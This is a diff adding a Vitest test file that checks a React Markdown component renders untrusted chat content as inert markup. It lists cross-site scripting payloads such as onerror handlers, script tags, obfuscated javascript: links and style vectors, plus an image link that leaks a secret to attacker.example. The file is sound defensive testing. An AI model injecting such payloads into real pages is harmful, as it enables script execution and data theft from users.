@@ -0,0 +1,107 @@
+import { renderToStaticMarkup } from "react-dom/server";
+import { describe, expect, it } from "vitest";
+import Markdown from "@/components/Markdown";
+
+// Untrusted message content that must render as inert markup
+const PAYLOADS: [string, string][] = [
+  ["img onerror", `<img src=x onerror="alert(1)">`],
+  ["script tag", `<script>alert(1)</script>`],
+  ["inline script in paragraph", `hello <script>alert(1)</script> world`],
+  ["svg onload", `<svg onload="alert(1)"><circle r="1"/></svg>`],
+  ["iframe", `<iframe src="javascript:alert(1)"></iframe>`],
+  ["javascript: link", `[click](javascript:alert(1))`],
+  ["uppercase scheme", `[click](JAVASCRIPT:alert(1))`],
+  ["vbscript: link", `[click](vbscript:msgbox(1))`],
+  [
+    "data: link",
+    `[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
+  ],
+  ["tab-obfuscated scheme", `[click](java\tscript:alert(1))`],
+  ["entity-obfuscated scheme", `[click](&#106;avascript:alert(1))`],
+  ["autolink", `<javascript:alert(1)>`],
+  ["reference link", `[click][x]\n\n[x]: javascript:alert(1)`],
+  ["javascript: image", `![x](javascript:alert(1))`],
+  [
+    "data: image",
+    `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
+  ],
+  ["remote image", `![x](https://attacker.example/leak?q=secret)`],
+  [
+    "raw HTML in a GFM table",
+    `| a | b |\n| - | - |\n| <img src=x onerror=alert(1)> | <a href="javascript:alert(1)">x</a> |`,
+  ],
+  [
+    "style attribute",
+    `<div style="background:url(javascript:alert(1))">x</div>`,
+  ],
+  ["form", `<form action="javascript:alert(1)"><button>go</button></form>`],
+  ["html comment", `<!-- <script>alert(1)</script> -->`],
+  ["code fence language", '```js" onmouseover="alert(1)\nx\n```'],
+];
+
+const SCRIPTABLE_ELEMENTS =
+  /^(script|iframe|object|embed|svg|math|img|form|style|link|meta|base)$/i;
+const SCRIPT_URL = /^\s*(javascript|vbscript|data):/i;
+
+interface Tag {
+  name: string;
+  attributes: [string, string][];
+}
+
+// Everything outside a tag is text React escaped, so only real elements match
+function tagsOf(html: string): Tag[] {
+  return [...html.matchAll(/<([a-z][\w-]*)([^>]*)>/gi)].map(
+    ([, name, rest]) => ({
+      name,
+      attributes: [...rest.matchAll(/([^\s=]+)(?:="([^"]*)")?/g)].map(
+        ([, attr, value = ""]) => [attr, value],
+      ),
+    }),
+  );
+}
+
+function decode(value: string): string {
+  return value
+    .replace(/&#x([0-9a-f]+);/gi, (_, hex) =>
+      String.fromCharCode(parseInt(hex, 16)),
+    )
+    .replace(/&#(\d+);/g, (_, dec) => String.fromCharCode(Number(dec)))
+    .replace(/&amp;/g, "&");
+}
+
+describe("Markdown with hostile content", () => {
+  it.each(PAYLOADS)("%s renders inert", (_, payload) => {
+    const html = renderToStaticMarkup(<Markdown content={payload} />);
+    for (const { name, attributes } of tagsOf(html)) {
+      expect(name).not.toMatch(SCRIPTABLE_ELEMENTS);
+      for (const [attr, value] of attributes) {
+        expect(attr).not.toMatch(/^on/i);
+        expect(attr).not.toBe("style");
+        expect(attr).not.toBe("srcdoc");
+        expect(decode(value)).not.toMatch(SCRIPT_URL);
+      }
+    }
+  });
+
+  it("shows raw HTML as text", () => {
+    const html = renderToStaticMarkup(
+      <Markdown content={`<img src=x onerror="alert(1)">`} />,
+    );
+    expect(html).toContain("&lt;img src=x onerror=");
+  });
+
+  it("turns remote images into links", () => {
+    const html = renderToStaticMarkup(
+      <Markdown content="![chart](https://example.com/chart.png)" />,
+    );
+    expect(html).not.toContain("<img");
+    expect(html).toContain('href="https://example.com/chart.png"');
+  });
+
+  it("keeps ordinary links", () => {
+    const html = renderToStaticMarkup(
+      <Markdown content="[docs](https://example.com/docs)" />,
+    );
+    expect(html).toContain('href="https://example.com/docs"');
+  });
+});